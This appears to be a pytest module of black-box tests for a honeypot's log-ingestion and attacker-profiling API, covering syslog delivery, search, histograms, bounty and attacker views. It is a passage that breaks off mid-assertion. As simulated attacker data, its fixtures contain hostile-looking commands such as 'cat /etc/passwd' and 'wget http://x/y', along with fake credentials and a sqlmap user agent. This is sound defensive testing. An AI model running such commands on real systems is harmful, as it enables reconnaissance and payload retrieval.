"""Black-box tests of the observation pipeline: syslog in, `/logs`, `/logs/histogram`, `/bounty`,
`/stats` and `/attackers` out, against a real `decnet serve` with its own collector port.
"""

from __future__ import annotations

import itertools
import random
import time
import uuid
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from tests.api.harness import ApiClient, Backend
from tests.api.observations_support import (
    ObservedServer,
    caught_up,
    collector_counts,
    fields_of,
    get_json,
    ip_block,
    observed_server,
    octet_frame,
    parse_ts,
    scratch_dir,
    send_raw_tcp,
    send_tcp,
    send_udp,
    syslog_line,
    tag,
    tcp_payload,
    wait_for,
    wait_for_logs,
)

WITHIN = 1.0  # the "within a second"
EPOCH = datetime(1970, 1, 1, tzinfo=UTC)
BASE = datetime(2026, 4, 10, 9, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def obs(backend: Backend) -> Iterator[ObservedServer]:
    """One production-mode server with a collector on a free port, for this module."""
    with scratch_dir("obs-api") as data_dir, observed_server(backend, data_dir) as server:
        yield server


@pytest.fixture
def client(obs: ObservedServer) -> ApiClient:
    return obs.api()


def deliver(obs: ObservedServer, transport: str, lines: list[str]) -> None:
    """Send lines over `udp`, `tcp-newline` or `tcp-octet`."""
    if transport == "udp":
        send_udp(obs.syslog_port, lines)
    else:
        send_tcp(obs.syslog_port, lines, transport.removeprefix("tcp-"))


def attacker_by_ip(client: ApiClient, token: str, ip: str) -> dict[str, Any] | None:
    """The attacker profile of exactly this IP, if projected."""
    page = get_json(client, token, "/attackers", search=ip, limit=1000)
    return next((a for a in page["data"] if a["ip"] == ip), None)


def wait_for_attacker(
    client: ApiClient, token: str, ip: str, events: int, timeout: float = 10.0
) -> dict[str, Any]:
    """The profile once it has counted `events` records."""

    def probe() -> dict[str, Any] | None:
        found = attacker_by_ip(client, token, ip)
        return found if found and found["event_count"] >= events else None

    return wait_for(probe, timeout, f"attacker {ip} with {events} events")


# --- delivery ------------------------------------------------------------------------------------

ESCAPED_FIELDS = {
    "username": "root",
    "password": 'a\\b"c]d',
    "path": "/x]y\\",
    "quote": '"',
    "note": "ünïcode \\] literal",
}


@pytest.mark.parametrize("transport", ["udp", "tcp-newline", "tcp-octet"])
def test_line_reaches_every_read_model_within_a_second(
    obs: ObservedServer, client: ApiClient, transport: str
) -> None:
    """UDP and TCP lines reach every read model within 1 s, with SD escapes decoded."""
    decky, ip = f"d{tag()}", ip_block() + "7"
    fields = {"src_ip": ip, **ESCAPED_FIELDS}
    line = syslog_line(
        decky, "ssh", "auth", fields, "login attempt", "2026-04-18T04:22:56.25+02:00"
    )
    token = obs.token
    total_before = get_json(client, token, "/stats")["total_logs"]

    deliver(obs, transport, [line])

    def everywhere() -> tuple[Any, ...] | None:
        logs = get_json(client, token, "/logs", search=f"decky:{decky}")["data"]
        bars = get_json(client, token, "/logs/histogram", search=f"decky:{decky}")
        bounty = get_json(client, token, "/bounty", search=ip)["data"]
        attacker = attacker_by_ip(client, token, ip)
        stats = get_json(client, token, "/stats")
        if not (logs and bars and bounty and attacker):
            return None
        return logs, bars, bounty, attacker, stats

    logs, bars, bounty, attacker, stats = wait_for(everywhere, WITHIN, "line in every model")
    (row,) = logs
    assert fields_of(row) == fields
    assert row["raw_line"] == line
    assert (row["decky"], row["service"], row["event_type"]) == (decky, "ssh", "auth")
    assert (row["attacker_ip"], row["msg"]) == (ip, "login attempt")
    assert parse_ts(row["timestamp"]) == datetime(2026, 4, 18, 2, 22, 56, 250000, tzinfo=UTC)
    assert isinstance(row["id"], int)
    assert row["id"] > 0
    assert bars == [{"bucket": "2026-04-18T02:15:00Z", "count": 1}]
    assert [(b["bounty_type"], b["payload"]) for b in bounty] == [
        ("credential", {"username": "root", "password": 'a\\b"c]d'})
    ]
    assert (attacker["event_count"], attacker["deckies"]) == (1, [decky])
    assert stats["total_logs"] >= total_before + 1


@pytest.mark.parametrize(
    ("fields", "msg", "expected"),
    [
        pytest.param({"src": "{ip}"}, "", "{ip}", id="src"),
        pytest.param({"client_ip": "{ip}", "ip": "10.255.255.1"}, "", "{ip}", id="priority"),
        pytest.param({"remote_addr": "not-an-ip", "ip": "{ip}"}, "", "{ip}", id="first-valid"),
        pytest.param({"user": "x"}, "conn from remote_ip={ip} port=22", "{ip}", id="msg-token"),
        pytest.param({"src_ip": "2001:DB8:0::0001"}, "", "2001:db8::1", id="ipv6-canonical"),
        pytest.param({"user": "x"}, "no address here", None, id="none"),
    ],
)
def test_attacker_ip_fallbacks(
    obs: ObservedServer,
    client: ApiClient,
    fields: dict[str, str],
    msg: str,
    expected: str | None,
) -> None:
    """The attacker IP is the first valid of the SPEC keys, then MSG `key=value`, else none."""
    decky, ip = f"f{tag()}", ip_block() + "9"
    fields = {k: v.format(ip=ip) for k, v in fields.items()}
    send_tcp(obs.syslog_port, [syslog_line(decky, "ssh", "connect", fields, msg.format(ip=ip))])
    (row,) = wait_for_logs(client, obs.token, f"decky:{decky}", 1)
    assert row["attacker_ip"] == (expected.format(ip=ip) if expected else None)


def test_logs_are_newest_first_and_pages_are_stable(obs: ObservedServer, client: ApiClient) -> None:
    """Rows come timestamp desc then id desc; ids follow ingestion order; pages tile the list."""
    decky = f"o{tag()}"
    minutes = list(range(12))
    random.shuffle(minutes)
    stamps = [datetime(2026, 4, 1, 8, m, tzinfo=UTC) for m in minutes]
    stamps += [datetime(2026, 4, 1, 8, 5, 30, tzinfo=UTC)] * 3  # ties: id decides
    lines = [
        syslog_line(decky, "ssh", "connect", {"seq": str(i)}, ts=ts) for i, ts in enumerate(stamps)
    ]
    send_tcp(obs.syslog_port, lines)
    rows = wait_for_logs(client, obs.token, f"decky:{decky}", len(lines))
    keys = [(parse_ts(r["timestamp"]), r["id"]) for r in rows]
    assert keys == sorted(keys, reverse=True)
    by_seq = sorted(rows, key=lambda r: int(fields_of(r)["seq"]))
    ids = [r["id"] for r in by_seq]
    assert ids == sorted(set(ids))
    for limit in (1, 4, 7):
        paged: list[int] = []
        while True:
            page = get_json(
                client, obs.token, "/logs", search=f"decky:{decky}", limit=limit, offset=len(paged)
            )
            assert (page["total"], page["limit"], page["offset"]) == (15, limit, len(paged))
            paged.extend(r["id"] for r in page["data"])
            if len(page["data"]) < limit:
                break
        assert paged == [r["id"] for r in rows]


# --- search language and time ranges -------------------------------------------------------------


@dataclass(frozen=True)
class SearchSet:
    """Four records tagged `run:<tag>`, named r1..r4, and their attacker addresses."""

    tag: str
    a: str
    b: str
    ids: dict[int, str]

    def fmt(self, text: str) -> str:
        return text.format(t=self.tag, A=self.a, B=self.b)


@pytest.fixture(scope="module")
def search_set(obs: ObservedServer) -> SearchSet:
    """r1 10:00 ssh auth (A), r2 10:05 http request (B), r3 10:10 http request (A),
    r4 10:15 ssh command (B), all on 2026-03-01 and tagged `run:<tag>`."""
    t, block = tag(), ip_block()
    a, b = block + "1", block + "2"
    at = [datetime(2026, 3, 1, 10, m, tzinfo=UTC) for m in (0, 5, 10, 15)]
    specs = [
        ("a", "ssh", "auth", {"src_ip": a, "username": "root", "password": "x"}, "Failed Password"),
        ("b", "http", "request", {"src_ip": b, "method": "GET", "user_agent": "Nikto/2.1"}, "GET"),
        ("a", "http", "request", {"src_ip": a, "method": "POST", "path": "/login"}, "POST login"),
        ("b", "ssh", "command", {"src_ip": b, "command": "cat /etc/passwd"}, "shell command"),
    ]
    lines = [
        syslog_line(f"s{t}-{d}", svc, ev, {"run": t, **f}, msg, ts=ts)
        for (d, svc, ev, f, msg), ts in zip(specs, at, strict=True)
    ]
    send_tcp(obs.syslog_port, lines)
    with obs.api() as client:
        rows = wait_for_logs(client, obs.token, f"run:{t}", 4)
    name_of_line = {line: f"r{i}" for i, line in enumerate(lines, start=1)}
    ids = {r["id"]: name_of_line[r["raw_line"]] for r in rows}
    return SearchSet(t, a, b, ids)


def names(search_set: SearchSet, rows: list[dict[str, Any]]) -> set[str]:
    return {search_set.ids[r["id"]] for r in rows}


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("decky:s{t}-a", {"r1", "r3"}),
        ("service:ssh", {"r1", "r4"}),
        ("event:request", {"r2", "r3"}),
        ("event_type:request", {"r2", "r3"}),
        ("event_type:command service:ssh", {"r4"}),
        ("attacker:{A}", {"r1", "r3"}),
        ("attacker_ip:{B}", {"r2", "r4"}),
        ("method:GET", {"r2"}),
        ("username:root", {"r1"}),
        ("nosuch:value", set()),
        ("PASSWORD", {"r1"}),
        ("nikto", {"r2"}),
        ("/etc/passwd", {"r4"}),
        ('"post login"', {"r3"}),
        ("'post login'", {"r3"}),
        ("login post", {"r3"}),
        ('"login post"', set()),
        ("service:http method:POST", {"r3"}),
        ("decky:s{t}-b ssh", {"r4"}),
        ("service:ssh service:http", set()),
        ("decky:S{t}-A", set()),
        ("e_c", set()),
        ("%", set()),
    ],
)
def test_search_language(
    obs: ObservedServer,
    client: ApiClient,
    search_set: SearchSet,
    query: str,
    expected: set[str],
) -> None:
    """Columns exactly, `key:value` on fields, bare words case-insensitive, quotes, AND."""
    search = f"run:{search_set.tag} {search_set.fmt(query)}"
    page = get_json(client, obs.token, "/logs", search=search)
    assert names(search_set, page["data"]) == expected
    assert page["total"] == len(expected)


@pytest.mark.parametrize("path", ["/api/v1/logs", "/api/v1/logs/histogram", "/api/v1/stream"])
def test_openapi_documents_the_search_language(client: ApiClient, path: str) -> None:
    """The `search` parameter of logs, histogram and stream describes the language's keys."""
    schema = client.http.get(str(client.http.base_url).replace("/api/v1", "/schema/openapi.json"))
    params = schema.json()["paths"][path]["get"]["parameters"]
    search = next(p for p in params if p["name"] == "search")
    assert search["required"] is False
    for key in ("decky:", "service:", "event_type:", "event:", "attacker_ip:", "attacker:"):
        assert f"`{key}X`" in search["description"], key
    assert "docs/search.md" in search["description"]


@pytest.mark.parametrize(
    ("start", "end", "expected"),
    [
        ("2026-03-01T10:05:00Z", None, {"r2", "r3", "r4"}),
        ("2026-03-01T12:05:00+02:00", None, {"r2", "r3", "r4"}),
        ("2026-03-01T05:05:00-05:00", None, {"r2", "r3", "r4"}),
        ("2026-03-01T10:05:00", None, {"r2", "r3", "r4"}),
        ("2026-03-01 10:05:00", None, {"r2", "r3", "r4"}),
        ("2026-03-01T10:05:00.001Z", None, {"r3", "r4"}),
        (None, "2026-03-01 10:10:00", {"r1", "r2", "r3"}),
        ("2026-03-01T10:05:00Z", "2026-03-01T10:10:00Z", {"r2", "r3"}),
        ("2026-03-01T10:10:00Z", "2026-03-01T10:05:00Z", set()),  # reversed: nothing, no 422
        ("null", "undefined", {"r1", "r2", "r3", "r4"}),
        ("", "", {"r1", "r2", "r3", "r4"}),
    ],
)
def test_time_range(
    obs: ObservedServer,
    client: ApiClient,
    search_set: SearchSet,
    start: str | None,
    end: str | None,
    expected: set[str],
) -> None:
    """start/end are inclusive, accept ISO with zone, naive (UTC) and `YYYY-MM-DD HH:MM:SS`."""
    params = {"start_time": start, "end_time": end}
    given = {k: v for k, v in params.items() if v is not None}
    page = get_json(client, obs.token, "/logs", search=f"run:{search_set.tag}", **given)
    assert names(search_set, page["data"]) == expected


def test_not_given_spellings(obs: ObservedServer, client: ApiClient, search_set: SearchSet) -> None:
    """`null`, `undefined` and "" for search, limit, offset and times mean "not given"."""
    plain = get_json(client, obs.token, "/logs")
    for spelling in ("null", "undefined", ""):
        page = get_json(
            client,
            obs.token,
            "/logs",
            search=spelling,
            limit=spelling,
            offset=spelling,
            start_time=spelling,
            end_time=spelling,
        )
        assert (page["total"], page["limit"], page["offset"]) == (plain["total"], 50, 0)
        assert [r["id"] for r in page["data"]] == [r["id"] for r in plain["data"]]
    # Exactly those spellings for numbers: a blank is a value, refused where an integer is due
    # (the document's enum says so, and schemathesis sends `%0C`). Times keep their own rule: a
    # blank time is no bound (`parse_time_param`, tests/unit/observations/test_timeparse.py).
    for name in ("limit", "offset"):
        for blank in (" ", "\x0c", " null "):
            r = client.get("/logs", obs.token, params={name: blank})
            assert r.status_code == 422, (name, blank, r.status_code)


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/logs", {"limit": "0"}),
        ("/logs", {"limit": "1001"}),
        ("/logs", {"limit": "abc"}),
        ("/logs", {"limit": "1.5"}),
        ("/logs", {"offset": "-1"}),
        ("/logs", {"offset": "x"}),
        ("/logs", {"start_time": "yesterday"}),
        ("/logs", {"end_time": "yesterday"}),
        ("/logs", {"start_time": "2026-13-01T00:00:00Z"}),
        ("/logs", {"end_time": "18/04/2026"}),
        ("/logs/histogram", {"interval_minutes": "0"}),
        ("/logs/histogram", {"interval_minutes": "x"}),
        ("/logs/histogram", {"interval_minutes": "-5"}),
        ("/logs/histogram", {"start_time": "yesterday"}),
        ("/bounty", {"limit": "0"}),
        ("/bounty", {"limit": "1001"}),
        ("/bounty", {"offset": "-1"}),
        ("/bounty", {"bounty_type": "password"}),
        ("/attackers", {"limit": "0"}),
        ("/attackers", {"limit": "1001"}),
        ("/attackers", {"offset": "-1"}),
        ("/attackers", {"sort_by": "newest"}),
        ("/attackers", {"sort_by": "RECENT"}),
    ],
)
def test_bad_parameters_are_422(
    obs: ObservedServer, client: ApiClient, path: str, params: dict[str, str]
) -> None:
    """Out-of-range or unparsable limit, offset, times, interval, bounty_type, sort_by: 422."""
    response = client.get(path, obs.token, params=params)
    assert response.status_code == 422, response.text
    assert response.json()["detail"]


def test_limits_at_the_bounds_are_accepted(obs: ObservedServer, client: ApiClient) -> None:
    """limit 1 and 1000, a large offset and interval 1 are valid."""
    for path in ("/logs", "/bounty", "/attackers"):
        for params in ({"limit": "1"}, {"limit": "1000"}, {"offset": "1000000"}):
            page = get_json(client, obs.token, path, **params)
            assert page["limit"] == int(params.get("limit", 50))
        assert get_json(client, obs.token, path, offset="1000000")["data"] == []
    assert isinstance(get_json(client, obs.token, "/logs/histogram", interval_minutes="1"), list)
    # A start inside the last minute a timestamp can hold has no whole minute after it.
    for start in ("9999-12-31T23:59:59", "9999-12-31T23:59:00", "0001-01-01T00:00:01"):
        assert get_json(client, obs.token, "/logs/histogram", start_time=start) is not None
    # Valid ISO-8601 whose UTC instant is before year 1 or after 9999 bounds as the first or
    # last instant there is (SPEC takes ISO-8601; a longer schemathesis run sent these).
    everything = get_json(client, obs.token, "/logs")["total"]
    early, late = "0001-01-01T00:00:01+03:01", "9999-12-31T23:59:59-01:00"
    whole = {"start_time": early, "end_time": late}
    assert get_json(client, obs.token, "/logs", **whole)["total"] == everything
    assert get_json(client, obs.token, "/logs", end_time=early)["total"] == 0
    assert get_json(client, obs.token, "/logs", start_time=late)["total"] == 0
    counted = get_json(client, obs.token, "/logs/histogram", interval_minutes="1", **whole)
    assert sum(bucket["count"] for bucket in counted) == everything


@pytest.mark.parametrize("path", ["/logs", "/bounty", "/attackers"])
def test_offset_beyond_bigint_is_not_a_500(
    obs: ObservedServer, client: ApiClient, path: str
) -> None:
    """An absurd offset is a 422 or an empty page, never a 500."""
    response = client.get(path, obs.token, params={"offset": str(2**63)})
    assert response.status_code in {200, 422}, response.text


@pytest.mark.parametrize(
    ("path", "params"),
    [("/attackers", {"search": "a\x00b"}), ("/attackers", {"service": "\x00"}),
     ("/bounty", {"search": "a\x00b"})],
)  # fmt: skip
def test_nul_in_attacker_and_bounty_filters_is_not_a_500(
    obs: ObservedServer, client: ApiClient, path: str, params: dict[str, str]
) -> None:
    """A NUL in a filter matches nothing (or is a 422), like it does on /logs; never a 500."""
    assert client.get("/logs", obs.token, params={"search": "a\x00b"}).status_code == 200
    response = client.get(path, obs.token, params=params)
    assert response.status_code in {200, 422}, response.text


# --- histogram -----------------------------------------------------------------------------------


def bucket_of(ts: datetime, minutes: int) -> datetime:
    width = minutes * 60
    seconds = int((ts - EPOCH).total_seconds())
    return EPOCH + timedelta(seconds=seconds - seconds % width)


def expected_histogram(stamps: list[datetime], minutes: int) -> list[tuple[datetime, int]]:
    return sorted(Counter(bucket_of(ts, minutes) for ts in stamps).items())


Stamped = tuple[datetime, str, str | None]


def select(
    records: list[Stamped],
    service: str | None = None,
    ip: str | None = None,
    lo: datetime | None = None,
    hi: datetime | None = None,
) -> list[datetime]:
    """Timestamps of the records a filter keeps."""
    return [
        ts
        for ts, svc, attacker in records
        if (service is None or svc == service)
        and (ip is None or attacker == ip)
        and (lo is None or ts >= lo)
        and (hi is None or ts <= hi)
    ]


def test_histogram_buckets_and_both_query_paths(obs: ObservedServer, client: ApiClient) -> None:
    """Epoch-aligned ascending buckets; column filters (buckets) and free text (scan) agree."""
    t = tag()
    decky, ip = f"h{t}", ip_block() + "3"
    feb1 = datetime(2026, 2, 1, tzinfo=UTC)
    records: list[Stamped] = [
        (feb1 + timedelta(minutes=1, seconds=5), "ssh", ip),
        (feb1 + timedelta(minutes=14, seconds=10), "http", None),
        (feb1 + timedelta(minutes=16), "ssh", ip),
        (feb1 + timedelta(minutes=31, seconds=59.9), "ssh", None),
        (feb1 + timedelta(hours=1, minutes=59), "http", ip),
        (feb1 + timedelta(hours=2), "ssh", None),
        (feb1 + timedelta(hours=2, seconds=30), "ssh", None),
        (feb1 + timedelta(days=2, hours=12), "http", None),
    ]
    lines = [
        syslog_line(decky, svc, "connect", {"run": t, **({"src_ip": a} if a else {})}, ts=ts)
        for ts, svc, a in records
    ]
    send_tcp(obs.syslog_port, lines)
    wait_for_logs(client, obs.token, f"run:{t}", len(lines))
    # The histogram is a model of its own, with its own position: it may still be behind logs.
    wait_for(
        lambda: (
            sum(
                b["count"]
                for b in get_json(
                    client,
                    obs.token,
                    "/logs/histogram",
                    search=f"decky:{decky}",
                    interval_minutes=1440,
                )
            )
            == len(lines)
            or None
        ),
        30,
        "the histogram model to hold every record",
    )

    at_14, at_14_30 = feb1 + timedelta(minutes=14), feb1 + timedelta(minutes=14, seconds=30)
    cases: list[tuple[dict[str, str], list[datetime]]] = [
        ({"search": f"decky:{decky}"}, select(records)),
        ({"search": f"decky:{decky} service:ssh"}, select(records, "ssh")),
        ({"search": f"run:{t}"}, select(records)),
        ({"search": decky.upper()}, select(records)),
        ({"search": f"run:{t} service:http"}, select(records, "http")),
        ({"search": f"decky:{decky} attacker:{ip}"}, select(records, ip=ip)),
        ({"search": f"decky:{decky} attacker_ip:{ip}"}, select(records, ip=ip)),
        ({"search": f"run:{t} event_type:connect service:ssh"}, select(records, "ssh")),
        ({"search": f"decky:{decky} event_type:connect"}, select(records)),
        ({"search": f"decky:{decky}", "start_time": "2026-02-01T00:14:00Z"},
         select(records, lo=at_14)),
        ({"search": f"decky:{decky}", "start_time": "2026-02-01 00:14:30"},
         select(records, lo=at_14_30)),
        ({"search": f"run:{t}", "start_time": "2026-02-01T00:14:00Z"}, select(records, lo=at_14)),
        ({"search": f"decky:{decky}", "end_time": "2026-02-01T02:00:00Z"},
         select(records, hi=feb1 + timedelta(hours=2))),
        # Whole minutes from the buckets, the partial minutes at both ends from the rows.
        ({"search": f"decky:{decky}", "start_time": "2026-02-01T00:14:05Z",
          "end_time": "2026-02-01T02:00:10Z"},
         select(records, lo=feb1 + timedelta(minutes=14, seconds=5),
                hi=feb1 + timedelta(hours=2, seconds=10))),
        ({"search": f"decky:{decky} service:ssh", "start_time": "2026-02-01T00:16:00Z",
          "end_time": "2026-02-01T00:31:59.95Z"},
         select(records, "ssh", lo=feb1 + timedelta(minutes=16),
                hi=feb1 + timedelta(minutes=31, seconds=59.95))),
        ({"search": f"decky:{decky}", "start_time": "2026-02-01T00:31:10Z",
          "end_time": "2026-02-01T00:31:59.95Z"},
         select(records, lo=feb1 + timedelta(minutes=31, seconds=10),
                hi=feb1 + timedelta(minutes=31, seconds=59.95))),
    ]  # fmt: skip
    for params, stamps in cases:
        for minutes in (1, 7, 15, 60, 1440):
            bars = get_json(
                client, obs.token, "/logs/histogram", interval_minutes=minutes, **params
            )
            got = [(parse_ts(b["bucket"]), b["count"]) for b in bars]
            assert got == expected_histogram(stamps, minutes), (params, minutes)
    default = get_json(client, obs.token, "/logs/histogram", search=f"decky:{decky}")
    spelled = get_json(
        client, obs.token, "/logs/histogram", search=f"decky:{decky}", interval_minutes="null"
    )
    assert default == spelled
    assert [(parse_ts(b["bucket"]), b["count"]) for b in default] == expected_histogram(
        select(records), 15
    )


# --- bounty and stats ----------------------------------------------------------------------------


def test_bounty_dedups_credentials_and_reads_user_agents(
    obs: ObservedServer, client: ApiClient
) -> None:
    """The same (type, ip, payload) is stored once; an HTTP User-Agent header is a fingerprint."""
    t, ip = tag(), ip_block() + "4"
    headers = '{"Host": "x", "User-Agent": "sqlmap/1.7.2#stable"}'
    specs: list[tuple[str, str, dict[str, str]]] = [
        ("ssh", "auth", {"username": "admin", "password": "hunter2"}),
        ("ssh", "auth", {"username": "admin", "password": "hunter2"}),  # same again: deduped
        ("ftp", "auth", {"user": "admin", "password": "hunter2"}),  # same payload, other service
        ("ssh", "auth", {"login": "bob", "pass": "s3cret"}),
        ("http", "request", {"method": "GET", "path": "/wp-login.php", "headers": headers}),
        ("http", "request", {"method": "GET", "path": "/wp-login.php", "headers": headers}),
    ]
    lines = [
        syslog_line(f"b{t}-{i}", svc, ev, {"src_ip": ip, **f}, ts=BASE + timedelta(seconds=i))
        for i, (svc, ev, f) in enumerate(specs)
    ]
    send_tcp(obs.syslog_port, lines)
    attacker = wait_for_attacker(client, obs.token, ip, len(lines))
    page = get_json(client, obs.token, "/bounty", search=ip)
    got = [(b["bounty_type"], b["payload"]) for b in page["data"]]
    assert page["total"] == 3
    assert sorted(got, key=str) == sorted(
        [
            ("credential", {"username": "admin", "password": "hunter2"}),
            ("credential", {"username": "bob", "password": "s3cret"}),
            (
                "fingerprint",
                {
                    "fingerprint_type": "http_useragent",
                    "value": "sqlmap/1.7.2#stable",
                    "method": "GET",
                    "path": "/wp-login.php",
                },
            ),
        ],
        key=str,
    )
    stamps = [parse_ts(b["timestamp"]) for b in page["data"]]
    assert stamps == sorted(stamps, reverse=True)
    assert all(b["attacker_ip"] == ip and isinstance(b["id"], int) for b in page["data"])
    only = get_json(client, obs.token, "/bounty", search=ip, bounty_type="credential")
    assert {b["bounty_type"] for b in only["data"]} == {"credential"}
    assert only["total"] == 2
    assert get_json(client, obs.token, "/bounty", search=ip, bounty_type="null")["total"] == 3
    assert (attacker["bounty_count"], attacker["credential_count"]) == (3, 2)
    assert "sqlmap" in attacker["behavior"]["tool_guesses"]


def test_stats_count_logs_and_distinct_attackers(obs: ObservedServer, client: ApiClient) -> None:
    """total_logs grows by the lines sent and unique_attackers by the new IPs among them."""
    t, block = tag(), ip_block()
    # Earlier tests waited for their records in one model only (the attackers model, or the logs
    # and histogram models): the others may still be applying them, which would land after
    # `before` and count as this test's lines.
    caught_up(client, obs.token, ("logs", "attackers"))
    before = get_json(client, obs.token, "/stats")
    ips = [block + "1", block + "2", block + "3", block + "1", block + "2", None, None]
    lines = [
        syslog_line(f"st{t}", "ssh", "connect", {"src_ip": ip} if ip else {"run": t}) for ip in ips
    ]
    send_udp(obs.syslog_port, lines[:3])
    send_tcp(obs.syslog_port, lines[3:])

    def grown() -> dict[str, int] | None:
        stats: dict[str, int] = get_json(client, obs.token, "/stats")
        logs_in = stats["total_logs"] >= before["total_logs"] + 7
        ips_in = stats["unique_attackers"] >= before["unique_attackers"] + 3
        return stats if logs_in and ips_in else None

    after = wait_for(grown, 10, "stats counting the new lines")
    assert after["total_logs"] == before["total_logs"] + 7
    assert after["unique_attackers"] == before["unique_attackers"] + 3
    assert after["deployed_deckies"] == after["active_deckies"] == 0


# --- attackers -----------------------------------------------------------------------------------


def test_attacker_profile_traversal_in_first_contact_order(
    obs: ObservedServer, client: ApiClient
) -> None:
    """Deckies and services are listed in first-contact order; the path joins deckies with →."""
    t, ip = tag(), ip_block() + "5"
    visits = [("c", "ssh"), ("a", "http"), ("b", "ssh"), ("a", "ftp"), ("c", "http")]
    lines = [
        syslog_line(f"tv{t}-{d}", svc, "connect", {"src_ip": ip}, ts=BASE + timedelta(minutes=i))
        for i, (d, svc) in enumerate(visits)
    ]
    send_tcp(obs.syslog_port, lines)
    listed = wait_for_attacker(client, obs.token, ip, len(lines))
    deckies = [f"tv{t}-c", f"tv{t}-a", f"tv{t}-b"]
    assert listed["deckies"] == deckies
    assert listed["traversal_path"] == " → ".join(deckies)
    assert (listed["decky_count"], listed["is_traversal"]) == (3, True)
    assert (listed["services"], listed["service_count"]) == (["ssh", "http", "ftp"], 3)
    assert listed["event_count"] == 5
    assert parse_ts(listed["first_seen"]) == BASE
    assert parse_ts(listed["last_seen"]) == BASE + timedelta(minutes=4)
    ident = uuid.UUID(listed["uuid"])
    assert ident.version == 5
    one = get_json(client, obs.token, f"/attackers/{listed['uuid']}")
    assert one == listed
    send_tcp(obs.syslog_port, [syslog_line(f"tv{t}-d", "ssh", "auth", {"src_ip": ip}, ts=BASE)])
    again = wait_for_attacker(client, obs.token, ip, 6)
    assert again["uuid"] == listed["uuid"]
    assert again["deckies"] == [*deckies, f"tv{t}-d"]


def test_single_decky_attacker_has_no_traversal(obs: ObservedServer, client: ApiClient) -> None:
    """One decky: traversal_path null and is_traversal false."""
    ip = ip_block() + "6"
    send_tcp(obs.syslog_port, [syslog_line(f"one{tag()}", "ssh", "auth", {"src_ip": ip})] * 2)
    attacker = wait_for_attacker(client, obs.token, ip, 2)
    assert (attacker["traversal_path"], attacker["is_traversal"]) == (None, False)


@pytest.fixture(scope="module")
def sorted_set(obs: ObservedServer) -> tuple[str, dict[str, str]]:
    """Six attackers in one block with known last_seen, event counts and decky counts."""
    t, block = tag(), ip_block()
    at = BASE.replace(hour=12)
    plan = {  # name: [(decky, seconds after 12:00)]
        "P": [("d1", s) for s in (0, 10, 20, 30, 40, 50)],
        "Q": [("d1", 10), ("d2", 20), ("d3", 30)],
        "R": [("d1", 40), ("d2", 60)],
        "S": [("d1", 10)],
        "T": [("d1", 5)],
        "U": [("d1", 5)],
    }
    ips = {name: block + str(i + 1) for i, name in enumerate(plan)}
    lines = [
        syslog_line(
            f"so{t}-{d}", "ssh", "connect", {"src_ip": ips[n]}, ts=at + timedelta(seconds=s)
        )
        for n, visits in plan.items()
        for d, s in visits
    ]
    send_tcp(obs.syslog_port, lines)
    with obs.api() as client:
        for name, visits in plan.items():
            wait_for_attacker(client, obs.token, ips[name], len(visits))
    return block, ips


@pytest.mark.parametrize(
    ("sort_by", "expected"),
    [
        (None, ["R", "P", "Q", "S", "TU", "TU"]),
        ("recent", ["R", "P", "Q", "S", "TU", "TU"]),
        ("null", ["R", "P", "Q", "S", "TU", "TU"]),
        ("active", ["P", "Q", "R", "STU", "STU", "STU"]),
        ("traversals", ["Q", "R", "P", "S", "TU", "TU"]),
    ],
)
def test_attacker_sort_orders_and_stable_pages(
    obs: ObservedServer,
    client: ApiClient,
    sorted_set: tuple[str, dict[str, str]],
    sort_by: str | None,
    expected: list[str],
) -> None:
    """Each sort order holds and limit-1 pages reproduce it (unique tie-break)."""
    block, ips = sorted_set
    name_of = {ip: name for name, ip in ips.items()}
    params: dict[str, Any] = {"search": block}
    if sort_by is not None:
        params["sort_by"] = sort_by
    page = get_json(client, obs.token, "/attackers", **params)
    order = [name_of[a["ip"]] for a in page["data"]]
    assert page["total"] == 6
    assert all(name in slot for name, slot in zip(order, expected, strict=True)), order
    paged = [
        get_json(client, obs.token, "/attackers", limit=1, offset=i, **params)["data"][0]["ip"]
        for i in range(6)
    ]
    assert [name_of[ip] for ip in paged] == order


def test_attacker_search_and_service_filters(
    obs: ObservedServer, client: ApiClient, sorted_set: tuple[str, dict[str, str]]
) -> None:
    """`search` is an IP substring; `service` keeps attackers that touched that service."""
    block, ips = sorted_set
    exact = get_json(client, obs.token, "/attackers", search=ips["Q"])
    assert [a["ip"] for a in exact["data"]] == [ips["Q"]]
    assert get_json(client, obs.token, "/attackers", search=block, service="ssh")["total"] == 6
    assert get_json(client, obs.token, "/attackers", search=block, service="http")["total"] == 0
    everyone = get_json(client, obs.token, "/attackers", limit=1000)["total"]
    assert get_json(client, obs.token, "/attackers", search="null", service="")["total"] == everyone


@pytest.mark.parametrize("suffix", ["", "/commands", "/artifacts"])
def test_attacker_routes_404_unknown_and_422_malformed(
    obs: ObservedServer, client: ApiClient, suffix: str
) -> None:
    """An unknown uuid is 404; a string that is not a uuid is 422."""
    unknown = client.get(f"/attackers/{uuid.uuid4()}{suffix}", obs.token)
    assert unknown.status_code == 404, unknown.text
    malformed = client.get(f"/attackers/not-a-uuid{suffix}", obs.token)
    assert malformed.status_code == 422, malformed.text


def test_attacker_commands_oldest_first(obs: ObservedServer, client: ApiClient) -> None:
    """Commands come oldest first with decky, service and time; limit 1..200; `service` filters."""
    t, ip = tag(), ip_block() + "8"
    decky = f"cm{t}"
    specs = [  # (seconds, service, event, fields) sent newest first
        (40, "redis", "redis_command", {"cmd": "CONFIG GET *"}),
        (30, "ssh", "shell_input", {"input": "uname -a"}),
        (20, "mysql", "query", {"query": "SELECT 1"}),
        (10, "ssh", "exec", {"line": "wget http://x/y"}),
        (5, "ssh", "connect", {}),
        (0, "ssh", "command", {"command": "whoami"}),
    ]
    lines = [
        syslog_line(decky, svc, ev, {"src_ip": ip, **f}, ts=BASE + timedelta(seconds=s))
        for s, svc, ev, f in specs
    ]
    send_tcp(obs.syslog_port, lines)
    attacker = wait_for_attacker(client, obs.token, ip, len(lines))
    assert attacker["command_count"] == 5
    path = f"/attackers/{attacker['uuid']}/commands"
    page = get_json(client, obs.token, path)
    assert page["total"] == 5
    assert [(c["command"], c["service"], c["decky"]) for c in page["data"]] == [
        ("whoami", "ssh", decky),
        ("wget http://x/y", "ssh", decky),
        ("SELECT 1", "mysql", decky),
        ("uname -a", "ssh", decky),
        ("CONFIG GET *", "redis", decky),
    ]
    assert [parse_ts(c["timestamp"]) for c in page["data"]] == [
